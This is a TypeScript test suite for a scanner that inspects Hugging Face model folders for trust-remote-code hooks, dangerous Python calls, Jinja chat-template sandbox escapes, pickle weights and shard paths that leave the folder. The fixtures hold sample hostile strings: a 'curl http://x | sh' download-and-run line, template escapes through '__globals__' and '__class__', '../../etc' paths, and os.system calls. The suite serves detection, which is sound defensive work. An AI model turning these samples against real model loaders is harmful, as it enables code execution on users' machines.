import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { DEFAULT_LIMITS } from '../../limits/index.js';
import type { FileTree } from '../../../test-fixtures/hf-builder.js';
import { analyzeFolderOnDisk, benignHfFolder, ESCAPE_CHAT_TEMPLATE, hostileHfFolder, tinyPickle, tinySafetensors, writeTree } from '../../../test-fixtures/hf-builder.js';
import { modelReporter } from '../../../test-fixtures/model-scan-helpers.js';
import { ruleIds } from '../../../test-fixtures/safetensors-builder.js';
import { checkProductionPolicy, isPickleBasedFormat } from '../policy/index.js';
import { analyzeModelFolder, folderTextWanted, scanPython } from './index.js';

const root = mkdtempSync(join(tmpdir(), 'bulwark-hf-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));
let n = 0;

function analyze(tree: FileTree, limits = DEFAULT_LIMITS) {
  const dir = join(root, `f${n++}`);
  const files = writeTree(dir, tree);
  const { findings, analyzed, partial } = analyzeFolderOnDisk(dir, files, limits);
  return { dir, findings, analyzed, partial, ids: ruleIds(findings) };
}

describe('Hugging Face folders', () => {
  it('pass an ordinary folder clean', () => {
    expect(analyze(benignHfFolder()).findings).toEqual([]);
  });

  it('report every finding of the hostile demo folder', () => {
    const r = analyze(hostileHfFolder());
    expect(r.ids).toEqual([
      'huggingface/chat-template-injection',
      'huggingface/dangerous-remote-code',
      'huggingface/pickle-weights-alongside-safetensors',
      'huggingface/trust-remote-code',
    ]);
    const trc = r.findings.filter((f) => f.ruleId === 'huggingface/trust-remote-code').map((f) => f.message);
    expect(trc.some((m) => m.includes('modeling_demo.py'))).toBe(true);
    expect(trc.some((m) => m.includes('ANOTHER repository "someone/other-repo"'))).toBe(true);
    const code = r.findings.filter((f) => f.ruleId === 'huggingface/dangerous-remote-code');
    // os.system and subprocess in modeling_demo.py (with lines), urlopen in helpers.py (a relative import).
    expect(code.map((f) => `${f.location.kind === 'file' ? `${f.location.path.split('/').pop()}:${f.location.line}` : ''}`)).toEqual(
      expect.arrayContaining(['modeling_demo.py:3', 'modeling_demo.py:13', 'modeling_demo.py:14', 'helpers.py:5']),
    );
    expect(code.some((f) => f.message.includes('comment'))).toBe(false);
  });

  it('check auto_map lists (tokenizers), custom pipelines, diffusers components and PEFT auto_mapping', () => {
    const r = analyze({
      'tokenizer_config.json': JSON.stringify({ auto_map: { AutoTokenizer: ['tok.SlowTok', null] } }),
      'tok.py': 'import subprocess as sp\nsp.call(["echo", "x"])\n',
      'config.json': JSON.stringify({ custom_pipelines: { 'text-gen': { impl: 'pipe.MyPipe', pt: ['AutoModel'] } } }),
      'model_index.json': JSON.stringify({ _class_name: ['pipeline_x', 'XPipeline'], unet: ['my_unet', 'MyUNet'], vae: ['diffusers', 'AutoencoderKL'] }),
      'unet/my_unet.py': 'x = eval("1+1")\n',
      'adapter_config.json': JSON.stringify({ auto_mapping: { base_model_class: 'X', parent_library: 'evil_lib.models' } }),
    });
    const msgs = r.findings.map((f) => f.message).join('\n');
    expect(msgs).toContain('tok.py');
    expect(msgs).toContain('pipe.py (the file is missing');
    expect(msgs).toContain('pipeline_x.py');
    expect(msgs).toContain('unet/my_unet.py');
    expect(msgs).toContain('evil_lib.models');
    expect(msgs).toContain('calls subprocess through the alias sp');
    expect(msgs).toContain('evaluates a string as code (eval)');
  });

  it('check chat templates in tokenizer_config.json (string and named list), chat_template.jinja and chat_template.json', () => {
    const r = analyze({
      'tokenizer_config.json': JSON.stringify({ chat_template: [{ name: 'default', template: '{{ x }}' }, { name: 'tool_use', template: "{{ ()|attr('__cla' ~ 'ss__') }}" }] }),
      'chat_template.jinja': `{{ messages }}\n{{ ${ESCAPE_CHAT_TEMPLATE.slice(3)}`,
      'chat_template.json': JSON.stringify({ chat_template: '{{ lipsum.__globals__ }}' }),
    });
    expect(r.ids).toEqual(['huggingface/chat-template-injection']);
    const files = new Set(r.findings.map((f) => (f.location.kind === 'file' ? f.location.path.split('/').pop() : '')));
    expect(files).toEqual(new Set(['tokenizer_config.json', 'chat_template.jinja', 'chat_template.json']));
    const jinjaLine = r.findings.find((f) => f.location.kind === 'file' && f.location.path.endsWith('.jinja') && f.evidence?.endsWith('__init__') === true);
    expect(jinjaLine?.location.kind === 'file' && jinjaLine.location.line).toBe(2);
  });

  it('report pickle weights next to safetensors, not alone, not training state', () => {
    expect(analyze({ 'model.safetensors': tinySafetensors(), 'pytorch_model.bin': tinyPickle() }).ids).toEqual(['huggingface/pickle-weights-alongside-safetensors']);
    expect(analyze({ 'pytorch_model.bin': tinyPickle() }).findings).toEqual([]);
    expect(analyze({ 'model.safetensors': tinySafetensors(), 'training_args.bin': tinyPickle() }).findings).toEqual([]);
  });

  it('report shard indexes that leave the folder', () => {
    const r = analyze({ 'model.safetensors.index.json': JSON.stringify({ weight_map: { a: 'model-00001.safetensors', b: '../../etc/x.bin', c: '/abs/p.bin' } }) });
    expect(r.ids).toEqual(['huggingface/shard-index-path']);
    expect(r.findings).toHaveLength(2);
  });

  it('report malformed configs and duplicate keys (the loader keeps the last auto_map)', () => {
    const r = analyze({ 'config.json': '{"auto_map": {"AutoModel": "a.B"}, "auto_map": {"AutoModel": "c.D"}}', 'tokenizer_config.json': '{"chat_template": ' });
    expect(r.ids).toEqual(['huggingface/malformed-config', 'huggingface/trust-remote-code']);
    expect(r.findings.find((f) => f.ruleId === 'huggingface/trust-remote-code')?.evidence).toBe('c.D');
  });

  it('treat oversized files as unchecked, not clean (a limit finding naming maxTextBytes)', () => {
    const r = analyze({ 'tokenizer_config.json': JSON.stringify({ chat_template: '{{ x }}'.repeat(100) }) }, { ...DEFAULT_LIMITS, maxTextBytes: 100 });
    expect(r.ids).toEqual(['scan/limit-exceeded']);
    expect(r.findings[0]?.message).toContain('not checked');
    expect(r.findings[0]?.evidence).toBe('maxTextBytes');
    expect(r.partial.has(join(r.dir, 'tokenizer_config.json'))).toBe(true);
  });

  it('treat wanted files without text for another reason as unchecked (high), and the file as partial', () => {
    const reporter = modelReporter();
    const files = [
      { rel: 'config.json', unavailable: 'not UTF-8 text' },
      { rel: 'chat_template.jinja', unavailable: 'read error: EACCES' },
      { rel: 'model.safetensors' },
    ];
    const { analyzed } = analyzeModelFolder('/m', files, DEFAULT_LIMITS, reporter);
    const findings = reporter.finish();
    expect(findings.map((f) => [f.ruleId, f.severity])).toEqual([
      ['huggingface/malformed-config', 'high'],
      ['huggingface/malformed-config', 'high'],
    ]);
    expect(findings.every((f) => f.message.includes('not checked'))).toBe(true);
    expect([...reporter.partialPaths()].sort()).toEqual(['/m/chat_template.jinja', '/m/config.json']);
    expect([...analyzed]).toEqual([
      ['config.json', 'json-config'],
      ['chat_template.jinja', 'chat-template'],
    ]);
  });

  it('a wanted config whose text the engine did not capture is not checked, never clean', () => {
    const reporter = modelReporter();
    analyzeModelFolder('/m', [{ rel: 'config.json' }], DEFAULT_LIMITS, reporter);
    expect(reporter.finish().map((f) => f.message)).toEqual(['config.json could not be read (its text was not captured); not checked']);
  });

  it('names the folder text budget when the engine ran out of it', () => {
    const reporter = modelReporter();
    analyzeModelFolder('/m', [{ rel: 'config.json', unavailable: 'not kept: maxFolderTextBytes (268435456 bytes) of folder text already in memory' }], DEFAULT_LIMITS, reporter);
    expect(reporter.finish().map((f) => [f.ruleId, f.evidence])).toEqual([['scan/limit-exceeded', 'maxFolderTextBytes']]);
  });

  it('never reads the disk: only the text it is given', () => {
    const reporter = modelReporter();
    const files = [
      { rel: 'config.json', text: JSON.stringify({ auto_map: { AutoModel: 'modeling_x.X' } }) },
      { rel: 'modeling_x.py', text: 'import os\nos.system("echo hi")\n' },
    ];
    const { analyzed } = analyzeModelFolder('/nonexistent/folder', files, DEFAULT_LIMITS, reporter);
    expect(ruleIds(reporter.finish())).toEqual(['huggingface/dangerous-remote-code', 'huggingface/trust-remote-code']);
    expect([...analyzed]).toEqual([
      ['config.json', 'json-config'],
      ['modeling_x.py', 'python-source'],
    ]);
  });

  it('lists the files that became analysed targets, clean ones included', () => {
    const r = analyze(benignHfFolder());
    expect(r.findings).toEqual([]);
    expect(r.analyzed.get('config.json')).toBe('json-config');
    expect([...r.analyzed.values()].every((f) => f === 'json-config' || f === 'chat-template' || f === 'python-source')).toBe(true);
  });

  it('analyses at most maxRemoteCodeFiles Python files and counts the rest in one limit finding', () => {
    const tree: FileTree = { 'config.json': JSON.stringify({ auto_map: { AutoModel: 'm0.M' } }) };
    // m0 imports m1 … m5 relatively; each has a dangerous call.
    tree['m0.py'] = `${[1, 2, 3, 4, 5].map((i) => `from .m${i} import x${i}`).join('\n')}\nos.system("echo 0")\n`;
    for (let i = 1; i <= 5; i++) tree[`m${i}.py`] = `import os\nos.system("echo ${i}")\n`;
    const r = analyze(tree, { ...DEFAULT_LIMITS, maxRemoteCodeFiles: 3 });
    const limit = r.findings.filter((f) => f.ruleId === 'scan/limit-exceeded');
    expect(limit).toHaveLength(1);
    expect(limit[0]?.evidence).toBe('maxRemoteCodeFiles');
    expect(limit[0]?.message).toContain('3 Python file(s)');
    const analysedCode = new Set(r.findings.filter((f) => f.ruleId === 'huggingface/dangerous-remote-code').map((f) => (f.location.kind === 'file' ? f.location.path.split('/').pop() : '')));
    expect(analysedCode).toEqual(new Set(['m0.py', 'm1.py', 'm2.py']));
    for (const f of ['m3.py', 'm4.py', 'm5.py']) expect(r.partial.has(join(r.dir, f))).toBe(true);
  });

  it('drops no finding silently: past maxFindingsPerRule the Reporter counts them', () => {
    const weights: Record<string, string> = {};
    for (let i = 0; i < 60; i++) weights[`w${i}`] = `../x${i}.bin`;
    const r = analyze({ 'model.safetensors.index.json': JSON.stringify({ weight_map: weights }) });
    const hits = r.findings.filter((f) => f.ruleId === 'huggingface/shard-index-path');
    expect(hits).toHaveLength(DEFAULT_LIMITS.maxFindingsPerRule + 1);
    expect(hits.at(-1)?.message).toContain(`${60 - DEFAULT_LIMITS.maxFindingsPerRule} more findings of this rule`);
  });

  it('wants the text of configs, templates and Python files only', () => {
    for (const rel of ['config.json', 'tokenizer_config.json', 'model_index.json', 'adapter_config.json', 'chat_template.json', 'model.safetensors.index.json', 'chat_template.jinja', 'additional_chat_templates/tool.jinja', 'modeling_x.py', 'sub\\x.py']) {
      expect(folderTextWanted(rel), rel).toBe(true);
    }
    for (const rel of ['model.safetensors', 'pytorch_model.bin', 'README.md', 'vocab.json', 'other.jinja']) expect(folderTextWanted(rel), rel).toBe(false);
  });
});

describe('Python tripwire', () => {
  it('ignores comments, docstrings, method calls named eval and definitions', () => {
    const src = '"""Use os.system(\'x\') carefully."""\n# subprocess.run(x)\nmodel.eval()\ndef eval(self):\n    pass\nx = re.compile("a")\n';
    expect(scanPython(src).issues).toEqual([]);
  });

  it('finds aliases, from-imports and download-and-run strings', () => {
    const src = 'from os import system as s\ns("id")\nimport torch\ntorch.load(p)\ntorch.load(p, weights_only=True)\ncmd = "curl http://x | sh"\n';
    const what = scanPython(src).issues.map((i) => `${i.line}:${i.what}`);
    expect(what).toEqual(['1:imports os.system', '2:calls os.system', '4:loads a pickle with torch.load (without weights_only=True)', '6:contains a shell download-and-run command']);
  });

  it('never throws on arbitrary input (property)', () => {
    fc.assert(fc.property(fc.string({ maxLength: 300 }), (s) => void scanPython(s)), { numRuns: 300 });
  });
});

describe('production policy', () => {
  it('flags pickle-based formats only under the production policy', () => {
    const judge = (policy: 'default' | 'production', format: string): string[] => {
      const reporter = modelReporter();
      checkProductionPolicy(policy, { path: 'm.bin', format }, reporter);
      return reporter.finish().map((f) => `${f.ruleId} ${f.location.path} ${f.evidence ?? ''}`);
    };
    expect(isPickleBasedFormat('pytorch-zip')).toBe(true);
    expect(isPickleBasedFormat('safetensors')).toBe(false);
    expect(judge('production', 'pickle')).toEqual(['policy/pickle-weights m.bin pickle']);
    expect(judge('default', 'pickle')).toEqual([]);
    expect(judge('production', 'onnx')).toEqual([]);
  });
});
